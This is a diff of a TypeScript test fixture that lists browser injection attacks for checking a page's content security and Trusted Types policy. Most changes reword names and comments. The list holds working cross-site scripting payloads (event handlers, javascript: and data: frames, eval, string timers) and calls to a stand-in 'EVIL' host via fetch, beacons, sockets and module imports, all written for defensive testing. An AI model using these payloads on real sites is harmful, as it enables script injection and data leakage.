@@ -1,4 +1,7 @@
-/** A way to make a page run, load or send something foreign. It works if `hit` is set or another site gets a request. */
+/**
+ * A way to make a page run foreign code, or load from or send to another site. The attack works if `hit` is set or the other site
+ * gets a request.
+ */
 export interface Attack {
   readonly name: string;
   /** Markup that is injected into the page; `EVIL` stands for the address of another site. */
@@ -21,15 +24,15 @@ export const attacks: readonly Attack[] = [
   { name: 'an error handler', markup: `<img src="/icon.svg?none=" onload="${hit}" onerror="${hit}" alt="">` },
   { name: 'a handler in a drawing', markup: `<svg onload="${hit}"></svg>` },
   {
-    name: 'a handler of an element that opens',
+    name: 'a toggle handler',
     markup: `<details open ontoggle="${hit}"><summary>x</summary></details>`,
   },
   { name: 'a link to a script', markup: `<a id="press" href="javascript:${hit}">x</a>`, click: '#press' },
   { name: 'a frame of a script', markup: `<iframe src="javascript:${hit}"></iframe>` },
-  { name: 'a frame with a document of its own', markup: `<iframe srcdoc="<script>${hit}</script>"></iframe>` },
+  { name: 'a frame with an inline document', markup: `<iframe srcdoc="<script>${hit}</script>"></iframe>` },
   { name: 'a frame in a data address', markup: `<iframe src="data:text/html,<script>${hit}</script>"></iframe>` },
   { name: 'a frame of another site', markup: '<iframe src="EVIL/x"></iframe>' },
-  { name: 'another base for addresses', markup: '<base href="EVIL/"><a id="press" href="x">x</a>', click: '#press' },
+  { name: 'a different base address', markup: '<base href="EVIL/"><a id="press" href="x">x</a>', click: '#press' },
   {
     name: 'a form to another site',
     markup: '<form action="EVIL/x"><button id="press">x</button></form>',
@@ -42,21 +45,24 @@ export const attacks: readonly Attack[] = [
   },
   { name: 'an image of another site', markup: '<img src="EVIL/x" alt="">' },
   { name: 'a style sheet of another site', markup: '<link rel="stylesheet" href="EVIL/x.css">' },
-  { name: 'a style that asks another site', markup: '<style>body{background:url(EVIL/x)}</style>' },
-  { name: 'a style attribute that asks another site', markup: '<p style="background:url(EVIL/x)">x</p>' },
+  { name: 'a style element that loads from another site', markup: '<style>body{background:url(EVIL/x)}</style>' },
+  { name: 'a style attribute that loads from another site', markup: '<p style="background:url(EVIL/x)">x</p>' },
   { name: 'an object of another site', markup: '<object data="EVIL/x"></object>' },
   { name: 'an embed of another site', markup: '<embed src="EVIL/x">' },
-  { name: 'a sound of another site', markup: '<audio preload="auto" src="EVIL/x"></audio>' },
-  { name: 'a preload of another site', markup: '<link rel="preload" as="image" href="EVIL/x">' },
+  { name: 'an audio file of another site', markup: '<audio preload="auto" src="EVIL/x"></audio>' },
+  { name: 'a preload from another site', markup: '<link rel="preload" as="image" href="EVIL/x">' },
   { name: 'eval', script: () => eval(`${'top'}.postMessage('hit','*')`) },
-  { name: 'a function made of text', script: () => new Function(`top.postMessage('hit','*')`)() },
-  { name: 'a timer with text', script: () => Reflect.apply(setTimeout, window, [`top.postMessage('hit','*')`, 0]) },
+  { name: 'a function created from text', script: () => new Function(`top.postMessage('hit','*')`)() },
+  {
+    name: 'a timer that runs text',
+    script: () => Reflect.apply(setTimeout, window, [`top.postMessage('hit','*')`, 0]),
+  },
   { name: 'a request to another site', script: (evil) => fetch(`${evil}/x`, { mode: 'no-cors' }) },
   { name: 'a beacon to another site', script: (evil) => navigator.sendBeacon(`${evil}/x`) },
   { name: 'a socket to another site', script: (evil) => new WebSocket(`${evil.replace('http', 'ws')}/x`) },
   { name: 'a module loaded from another site', script: (evil) => import(/* @vite-ignore */ `${evil}/x.js`) },
   {
-    name: 'a worker made of text',
+    name: 'a worker created from text',
     script: (evil) => new Worker(URL.createObjectURL(new Blob([`fetch('${evil}/x', {mode: 'no-cors'})`]))),
   },
   {
@@ -67,7 +73,7 @@ export const attacks: readonly Attack[] = [
     },
   },
   {
-    name: 'text as more HTML (Trusted Types)',
+    name: 'text as additional HTML (Trusted Types)',
     script: () => {
       document.body.insertAdjacentHTML('beforeend', `<p id="sunk">x</p>`);
       if (document.querySelector('#sunk') !== null) postMessage('hit');
@@ -88,7 +94,7 @@ export const attacks: readonly Attack[] = [
     },
   },
   {
-    name: 'a default policy that lets all through (Trusted Types)',
+    name: 'a default policy that allows everything (Trusted Types)',
     script: () => {
       const types: unknown = Reflect.get(window, 'trustedTypes');
       if (typeof types !== 'object' || types === null) return;
@@ -100,7 +106,10 @@ export const attacks: readonly Attack[] = [
   },
 ];
 
-/** Runs an attack's script as the page's own code, in a timer: the policy does not apply to code that a test evaluates itself. */
+/**
+ * Wraps an attack's script in a timer, so that it runs as the page's own code: the policy does not apply to code that a test
+ * evaluates directly.
+ */
 export function asPageCode(script: (evil: string) => unknown, evil: string): string {
   const run = `Promise.resolve((${script.toString()})(${JSON.stringify(evil)})).catch(() => {})`;
   return `setTimeout(() => { try { ${run} } catch {} })`;
